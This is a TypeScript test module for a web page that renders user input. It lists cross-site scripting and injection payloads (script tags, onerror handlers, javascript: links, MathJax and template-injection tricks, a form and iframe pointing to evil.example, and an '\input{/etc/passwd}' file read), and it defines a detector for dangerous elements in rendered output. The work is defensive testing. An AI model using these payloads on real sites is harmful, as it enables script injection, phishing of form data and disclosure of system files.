/** What somebody may type into a field in order to run a script on a page of ours, or to change how it looks. */
export const ATTACKS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  `'onmouseover='alert(1)`,
  '</title><svg onload=alert(1)>',
  '</script><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</option></select><iframe src=//evil.example>',
  '"><form action="https://evil.example/"><input name=form>',
  '<!--<script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\text{<img src=x onerror=alert(1)>}$',
  '\\url{javascript:alert(1)} \\href{data:text/html,<script>alert(1)</script>}{x}',
  '$\\unicode{x3c}script\\unicode{x3e}$',
  '$\\htmlStyle{position:fixed}{x}$ $\\class{masthead}{x}$ $\\style{color:red}{x}$',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} `x`',
  '\u202Egnp.exe <a href="javascript:alert(1)">x</a>',
  '](javascript:alert(1)) [x](javascript:alert(1)) <javascript:alert(1)>',
  '\\input{/etc/passwd} } @string{x = {y}} {',
]

const NAMED = /<([a-z][\w-]*)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/g

/** Every element of a page that a browser would act upon although nobody of us wrote it. */
export function dangers(page: string): string[] {
  return [...page.matchAll(NAMED)]
    .map(([tag]) => tag)
    .filter(
      (tag) =>
        /^<(?:img|svg|iframe|object|embed|base)\b/.test(tag) ||
        /^<form\b.*\saction="(?!\/(?!\/))/s.test(tag) ||
        (/^<script\b/.test(tag) &&
          !/^<script type="(?:module" src="\/assets\/|application\/ld\+json")/.test(tag)) ||
        /\s(?:on\w+|style|srcdoc)\s*=/.test(tag.replace(/"[^"]*"/g, '""')) ||
        /(?:href|src|action)="\s*(?:javascript|data|vbscript):/i.test(tag),
    )
}
